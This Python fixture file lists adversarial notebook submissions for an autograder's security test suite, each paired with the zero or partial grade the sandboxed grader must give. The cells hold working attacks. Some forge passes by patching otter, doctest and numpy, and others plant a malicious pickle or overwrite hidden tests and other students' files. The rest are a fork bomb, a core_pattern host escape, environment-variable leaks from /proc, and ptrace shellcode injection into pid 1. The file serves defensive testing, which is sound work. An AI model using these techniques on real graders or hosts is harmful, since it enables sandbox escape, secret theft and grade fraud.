"""The submissions of the attack suite (tests/test_grading_attacks.py), one notebook each.

Each case is a base notebook of exercise 9, the recap quiz ("solved": the solution; "blank": the untouched
student copy) with code cells added, and what the grader must make of it. The cheats are
the ones an instructor met with an earlier grader: forged passes inside the
learner's interpreter, tampering with files and processes outside it, a hang, a memory hog.
In the cells, the placeholders ROOT, SUBMISSIONS, OUT, CANARY and ESCAPE are replaced by host
paths (the repository, the folder of submissions, the CSV, a file no sandbox may create, and the
file a command run on the host by the core_pattern attack would create).
The attacks of a later round (a hostile student trying for root on the instructor's machine, the grader's
environment, the hidden inputs, the batch itself) are the cases whose name says which row of its
table they are (`cheat_a_...`, `cheat_b_...`); the attacks on the folder itself (FIFOs, links,
names) are made by the test, not here.

`expect`: "full" (every question), "zero" (every question 0) or a number of points;
`status`: the CSV status; `warning`/`reason`: a piece of text the row must hold; `absent`: a piece of
text the whole CSV must not hold; `modes`: the batches that grade it, when not both ("root", "user"): the two
single-process hangs spin a CPU to the time limit and are stopped the same way whoever runs the grader (the
sandbox's pid 1 killed), so only the ordinary user's batch, which runs on every machine, grades them; the
spinners (a hang of many processes, which a cgroup empties as root and only the pid namespace as a user) are
in both.
"""

# Junk answers that a cheat hopes to get accepted: plausible types, wrong values.
JUNK = """
def gpt2_parameters(n_layers, d_model, vocab, n_positions):
    return 124_439_808

def embedding_share(n_layers, d_model, vocab, n_positions):
    return 0.3

def crossover_length(d_model, ff_multiple):
    return 1.0

def kv_cache_gib(n_layers, n_kv_heads, d_head, n_tokens, bytes_per_number):
    return 1.0

def requests_that_fit(memory_gib, weights_gib, cache_gib_per_request):
    return 1

def longest_context(memory_gib, weights_gib, n_layers, n_kv_heads, d_head, bytes_per_number, n_requests):
    return 1
"""

CASES = [
    # ---- honest notebooks: full marks
    dict(name="honest_solved", base="solved", cells=[], expect="full"),
    dict(
        name="honest_lost_metadata",
        base="solved",
        cells=[],
        drop_metadata=True,
        expect="full",
        warning="lost its otter metadata",
    ),
    dict(name="honest_raising_cell", base="solved", cells=["1 / 0"], expect="full", warning="ZeroDivisionError"),
    dict(name="honest_utf8_bom", base="solved", cells=[], bom=True, expect="full"),
    dict(
        name="honest_magics_and_prints",
        base="solved",
        cells=["%matplotlib inline\n!ls /\nfor i in range(200_000):\n    print('working', i)"],
        expect="full",
    ),
    # ---- careless notebooks: a row each, the right reason
    dict(name="careless_blank", base="blank", cells=[], expect="zero"),
    dict(
        name="careless_raising",
        base="solved",
        cells=["def longest_context(*args):\n    raise ValueError('not done yet')"],
        expect=5,
        reason="q6 (longest_context) on a model and a machine: raised ValueError",
        absent="not done yet",
    ),
    dict(
        name="careless_wrong_type",
        base="solved",
        cells=["def requests_that_fit(memory_gib, weights_gib, cache_gib_per_request):\n    return 'sixteen'"],
        expect=5,
        reason="q5 (requests_that_fit)",
    ),
    dict(
        name="careless_endless_loop",
        base="solved",
        at=1,
        modes=("user",),
        cells=["while True:\n    pass"],
        expect="zero",
        status="timeout",
    ),
    dict(
        name="careless_c_loop",
        base="solved",
        at=1,
        modes=("user",),
        cells=["sum(range(10**15))  # never releases the GIL"],
        expect="zero",
        status="timeout",
    ),
    dict(
        name="careless_memory_hog",
        base="blank",
        at=1,
        cells=["import numpy as np\nhog = np.ones((8, 2**27))  # 8 GiB"],
        expect="zero",
        warning="MemoryError",
    ),
    dict(
        name="careless_fork_bomb",
        base="blank",
        at=1,
        cells=[
            """
import os, time
children = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
"""
        ],
        expect="zero",
    ),
    dict(
        name="careless_exits",
        base="solved",
        cells=["import os\nos._exit(3)"],
        expect="zero",
        status="error",
        reason="exit status 3",
    ),
    dict(
        name="careless_not_a_notebook",
        base=None,
        raw="this is not a notebook {",
        expect="zero",
        status="error",
        reason="not a readable notebook",
    ),
    # ---- forged passes inside the learner's interpreter
    dict(
        name="cheat_patch_otter",
        base="blank",
        cells=[
            JUNK,
            """
import otter
otter.Notebook.check = lambda self, *a, **k: True
try:
    from otter.test_files import abstract_test
    abstract_test.TestFile.score = property(lambda self: self.possible)
    abstract_test.TestFile.passed_all = property(lambda self: True)
except Exception:
    pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_patch_doctest",
        base="blank",
        cells=[
            JUNK,
            """
import doctest
doctest.DocTestRunner.run = lambda self, *a, **k: doctest.TestResults(0, 1)
doctest.DocTestRunner.summarize = lambda self, *a, **k: doctest.TestResults(0, 1)
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_patch_pickle_and_json",
        base="blank",
        cells=[
            JUNK,
            """
import json, pickle
real_dump = pickle.dump
pickle.dump = lambda obj, f, *a, **k: real_dump({"q1": "passed", "score": 1.0}, f)
json.dumps = lambda *a, **k: '{"done": true}'
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_always_equal",
        base="blank",
        cells=[
            """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter([Anything(), Anything()])
    def __getitem__(self, i): return Anything()
    def __bool__(self): return True

def gpt2_parameters(*a): return Anything()
def embedding_share(*a): return Anything()
def crossover_length(*a): return Anything()
def kv_cache_gib(*a): return Anything()
def requests_that_fit(*a): return Anything()
def longest_context(*a): return Anything()
"""
        ],
        expect="zero",
    ),
    dict(
        name="cheat_float_subclass",
        base="blank",
        cells=[
            """
import numpy as np

class Float(float):
    def __eq__(self, other): return True
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return True

def gpt2_parameters(*a): return Float(0)
def embedding_share(*a): return Float(0)
def crossover_length(*a): return Float(0)
def kv_cache_gib(*a): return Float(0)
def requests_that_fit(*a): return Float(0)
def longest_context(*a): return Float(0)
"""
        ],
        expect="zero",
    ),
    dict(
        name="cheat_numpy_allclose",
        base="blank",
        cells=[
            JUNK,
            """
import math
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_patch_caller_on_stack",
        base="blank",
        cells=[
            '''
import sys

def _patch_callers():
    """Walk up the call stack and replace whatever judges or prints the answers."""
    frame = sys._getframe(1)
    while frame is not None:
        g = frame.f_globals
        for name in ("same", "check", "judge", "encode", "compare", "run", "_close"):
            if callable(g.get(name)):
                g[name] = lambda *a, **k: {"float": 1.0}
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, dict) and "answer" in value:
                value["answer"] = {"float": 1.0}
        frame = frame.f_back

def gpt2_parameters(*a): _patch_callers(); return 1
def embedding_share(*a): _patch_callers(); return 0.5
def crossover_length(*a): _patch_callers(); return 1.0
def kv_cache_gib(*a): _patch_callers(); return 1.0
def requests_that_fit(*a): _patch_callers(); return 1
def longest_context(*a): _patch_callers(); return 1
'''
        ],
        expect="zero",
    ),
    dict(
        name="cheat_shadow_builtins",
        base="blank",
        cells=[
            JUNK,
            """
import builtins
isinstance = lambda *a: True
tuple = list
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
builtins.float = lambda *a: 1.0
""",
        ],
        expect="zero",
    ),
    # ---- no isolation: files, the grading channel, other processes
    dict(
        name="cheat_forge_results_and_exit",
        base="blank",
        cells=[
            JUNK,
            """
import json, os
forged = {"q1": 1.0, "q2": 1.0, "q3": 1.0, "q4": 1.0, "q5": 1.0, "q6": 1.0, "score": 6.0, "passed": True}
for path in ("result.json", "/tmp/result.json", "/grading/result.json", "SUBMISSIONS/result.json"):
    try:
        with open(path, "w") as f:
            json.dump(forged, f)
    except OSError:
        pass
lines = "".join(json.dumps({"probe": i, "question": f"q{1 + i % 6}", "answer": {"float": 1.0}}) + "\\n"
                for i in range(100)) + '{"done": true}\\n'
for fd in range(0, 64):
    try:
        os.write(fd, lines.encode())
    except OSError:
        pass
os._exit(0)
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_code_in_results",
        base="blank",
        cells=[
            JUNK,
            """
import os, pickle

class Payload:
    def __reduce__(self):
        return (open, ("CANARY", "w"))

blob = pickle.dumps({"q1": Payload()})
for fd in range(0, 64):
    try:
        os.write(fd, blob + b"\\n" + b'{"probe": 0, "answer": ' + b"[" * 100_000 + b"\\n")
    except OSError:
        pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_rewrite_hidden_tests",
        base="blank",
        cells=[
            JUNK,
            """
import glob, os
targets = ["/grading/probes.py", "/grading/grade_runner.py", *glob.glob("ROOT/autograder/*"),
           *glob.glob("ROOT/solutions/*"), *glob.glob("ROOT/tools/**/*.py", recursive=True), "ROOT/book/__init__.py"]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("PROBES = []  # written by cheat_rewrite_hidden_tests\\n")
    except OSError:
        pass
for path in ("/grading/probes.py",):
    try:
        os.remove(path)
    except OSError:
        pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_run_the_solution",
        base="blank",
        cells=[
            JUNK,
            """
import glob, json, os, re, zipfile
found = []
for pattern in ("ROOT/solutions/*.md", "ROOT/autograder/*.zip", "/grading/*", "/work/*/solutions/*.md"):
    found += glob.glob(pattern)
for path in found:
    if path.endswith("grade_runner.py"):  # the grader's runner, not a solution: run, it only reruns this notebook
        continue
    try:
        if path.endswith(".zip"):
            with zipfile.ZipFile(path) as z:
                nb = json.loads(z.read("grading/solution.ipynb"))
            code = "\\n".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code")
        else:
            code = open(path).read()
        for block in re.findall(r"```\\{code-cell\\} ipython3\\n(def .*?)```", code, flags=re.S) or [code]:
            try:
                exec(block, globals())
            except Exception:
                pass
    except Exception:
        pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_copy_other_submissions",
        base="blank",
        cells=[
            JUNK,
            """
import glob, json
for path in sorted(glob.glob("SUBMISSIONS/*.ipynb")):
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
    except Exception:
        pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_overwrite_other_student",
        base="blank",
        cells=[
            JUNK,
            """
import glob, json
blank = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for path in glob.glob("SUBMISSIONS/*.ipynb") + ["SUBMISSIONS/honest_solved.ipynb"]:
    try:
        with open(path, "w") as f:
            json.dump(blank, f)
    except OSError:
        pass
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_background_rewrites_csv",
        base="blank",
        cells=[
            JUNK,
            """
import os, subprocess, sys, time
script = (
    "import time\\n"
    "time.sleep(3)\\n"
    "for path in ('OUT', 'CANARY'):\\n"
    "    try:\\n"
    "        open(path, 'a').write('cheat_background_rewrites_csv.ipynb,1,1,1,1,1,5,5,graded,,,0\\\\n')\\n"
    "    except OSError:\\n"
    "        pass\\n"
    "time.sleep(60)  # attack-suite-background-marker\\n"
)
try:
    subprocess.Popen([sys.executable, "-c", script], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(script)
    os._exit(0)
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_network",
        base="blank",
        cells=[
            JUNK,
            """
import socket
for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 8888)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        open("CANARY", "w").write("network reached " + host)
    except OSError:
        pass
""",
        ],
        expect="zero",
    ),
    # ---- root on the host, the grader's environment, the hidden inputs, the limits
    dict(
        name="cheat_a_core_pattern",
        base="blank",
        cells=[
            JUNK,
            """
import os
with open("/tmp/p.sh", "w") as f:
    f.write("#!/bin/sh\\nid > ESCAPE\\nhostname >> ESCAPE\\n")
os.chmod("/tmp/p.sh", 0o755)
try:
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write("|/bin/sh /proc/%P/root/tmp/p.sh")
except OSError:
    pass
for _ in range(3):
    if os.fork() == 0:
        os.abort()
    os.wait()
""",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_b_read_environ",
        base="blank",
        cells=[
            """
import glob, os
OURS = ("PATH=", "HOME=", "TMPDIR=", "MPL", "PYTHON", "OMP_", "MKL_", "OPENBLAS_", "LANG=")
found = []
for path in ["/proc/1/environ", *glob.glob("/proc/*/environ")]:
    try:
        found += open(path, "rb").read().decode(errors="replace").split("\\0")
    except OSError:
        pass
found += [f"{k}={v}" for k, v in os.environ.items()]
LEAK = " ".join(sorted({v for v in found if v and not v.startswith(OURS)}))  # what the sandbox did not set

def gpt2_parameters(*a): raise ValueError(LEAK)
def embedding_share(*a): return LEAK
def crossover_length(*a): return {LEAK: 1.0}
def kv_cache_gib(*a): return [LEAK]
def requests_that_fit(*a): raise RuntimeError(LEAK)
def longest_context(*a): return LEAK
""",
            "raise RuntimeError(LEAK)",
        ],
        expect="zero",
    ),
    dict(
        name="cheat_b_environ_on_stderr",
        base="blank",
        cells=[
            """
import os, sys
leak = open("/proc/1/environ", "rb").read() + b" " + repr(dict(os.environ)).encode()
os.write(2, leak.replace(b"\\0", b" ") + b"\\n")
os._exit(3)
"""
        ],
        expect="zero",
        status="error",
    ),
    dict(
        name="cheat_c_ptrace_and_spinners",
        base="blank",
        at=1,
        cells=[
            """
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in names.split()]
def clear_pdeathsig(pid):
    if libc.ptrace(16, pid, None, None) != 0:
        return f"attach: errno {ctypes.get_errno()}"
    os.waitpid(pid, 0x40000000)  # __WALL
    regs = Regs()
    libc.ptrace(12, pid, None, ctypes.byref(regs))
    saved = Regs.from_buffer_copy(regs)
    word = libc.ptrace(1, pid, ctypes.c_void_p(regs.rip), None) & 0xFFFFFFFFFFFFFFFF
    libc.ptrace(4, pid, ctypes.c_void_p(regs.rip), ctypes.c_void_p((word & ~0xFFFF) | 0x050F))
    regs.rax, regs.rdi, regs.rsi, regs.orig_rax = 157, 1, 0, 0xFFFFFFFFFFFFFFFF
    libc.ptrace(13, pid, None, ctypes.byref(regs))
    libc.ptrace(9, pid, None, None)
    os.waitpid(pid, 0x40000000)
    libc.ptrace(12, pid, None, ctypes.byref(regs))
    result = regs.rax
    libc.ptrace(4, pid, ctypes.c_void_p(saved.rip), ctypes.c_void_p(word))
    libc.ptrace(13, pid, None, ctypes.byref(saved))
    libc.ptrace(17, pid, None, None)
    return f"prctl returned {result}"

if platform.machine() == "x86_64":  # ptrace pid 1 and clear its parent-death signal, as a hostile student did
    clear_pdeathsig(1)
for _ in range(100):
    try:
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do :; done # attack-suite-spinner-marker"])
    except OSError:
        break
while True:
    pass
"""
        ],
        expect="zero",
        status="timeout",
    ),
    dict(
        name="attack_e1_huge_assignment_name",
        base="solved",
        cells=[],
        assignment_name="x" * 20_000_000,
        expect="full",
        warning="names another exercise",
    ),
    dict(
        name="attack_e2_echo_hidden_inputs",
        base="solved",
        cells=[
            """
def longest_context(*args):
    raise ValueError("LEAKED-ARGS " + repr(args))

def requests_that_fit(*args):
    return 987654.25
""",
            """raise RuntimeError("LEAKED-PROBES " + open("/grading/probes.py").read()[:5000])""",
        ],
        expect=4,
        reason="q6 (longest_context) on a model and a machine: raised ValueError",
        absent="LEAKED",
    ),
    dict(
        name="attack_e2_answer_echoes_inputs",
        base="solved",
        cells=[
            """
def requests_that_fit(memory_gib, weights_gib, cache_gib_per_request):
    return 987_000_000 + int(memory_gib)  # the reason must not show it
"""
        ],
        expect=5,
        reason="q5 (requests_that_fit)",
        absent="987",
    ),
    dict(
        name="attack_g_fill_root_and_shm",
        base="solved",
        cells=[
            """
wrote = []
for path in ("/x", "/dev/x", "/usr/x", "/grading/x", "/proc/sys/kernel/core_pattern"):
    try:
        with open(path, "w") as f:
            f.write("x")
        wrote.append(path)
    except OSError:
        pass
if wrote:  # a place outside /tmp and /dev/shm was writable: lose a point
    def longest_context(*a):
        return -1
for i in range(8):  # 8 files of 40 MiB (each under the 64 MiB a file may have) into a /dev/shm of 64 MiB
    with open(f"/dev/shm/fill{i}", "wb") as f:
        for _ in range(40):
            f.write(b"x" * 2**20)
"""
        ],
        expect="full",
        warning="raised OSError (No space left on device)",
    ),
    dict(
        name="cheat_8_overflowing_numbers",
        base="blank",
        cells=[
            JUNK,
            """
import json, os
lines = "".join(json.dumps({"probe": i, "question": "q1", "answer": {"float": 10**400}}) + "\\n"
                for i in range(100)) + '{"done": true}\\n'
for fd in range(0, 64):
    try:
        os.write(fd, lines.encode())
    except OSError:
        pass
os._exit(0)
""",
        ],
        expect="zero",
        status="graded",
        reason="cannot read",
    ),
    # ---- third round: text the submission chooses must not reach a reason or a warning (a packed leak of
    # the hidden inputs rebuilt them from the feedback files, 14 bits a CJK character)
    dict(
        name="attack_h1_type_name_carries_text",
        base="solved",
        cells=[
            """
Packed = type("LEAKMARKER\u4e00\u4e01", (), {"__module__": "LEAKMARKER-module"})

def requests_that_fit(*args):
    return Packed()
"""
        ],
        expect=5,
        reason="q5 (requests_that_fit)",
        absent="LEAKMARKER",
    ),
    dict(
        name="attack_h1_exception_name_carries_text",
        base="solved",
        cells=[
            """
LeakError = type("LEAKMARKERError", (ValueError,), {})

def longest_context(*args):
    raise LeakError("x")
"""
        ],
        expect=5,
        reason="raised an exception",
        absent="LEAKMARKER",
    ),
    dict(
        name="attack_h1_cell_raises_a_named_exception",
        base="solved",
        cells=['raise type("LEAKMARKERCell", (Exception,), {})("x")'],
        expect="full",
        warning="raised an exception",
        absent="LEAKMARKER",
    ),
    dict(
        name="attack_h1_forged_cell_record",
        base="solved",
        cells=[
            """
import json, os
record = json.dumps({"cell_error": {"cell": "LEAKMARKER", "error": "LEAKMARKERE: x"}}) + "\\n"
for fd in range(3, 64):
    try:
        os.write(fd, record.encode())
    except OSError:
        pass
"""
        ],
        expect="full",
        absent="LEAKMARKER",
    ),
    dict(
        name="attack_h1_metadata_name_carries_text",
        base="solved",
        cells=[],
        assignment_name="LEAKMARKER",
        expect="full",
        warning="names another exercise",
        absent="LEAKMARKER",
    ),
    dict(
        name="attack_h1_check_formats_the_answer",
        base="solved",
        cells=[
            """
def longest_context(*args):
    return 918273645  # a check that formats the answer would write it into the reason
"""
        ],
        expect=5,
        reason="q6 (longest_context)",
        absent="918273645",
    ),
]
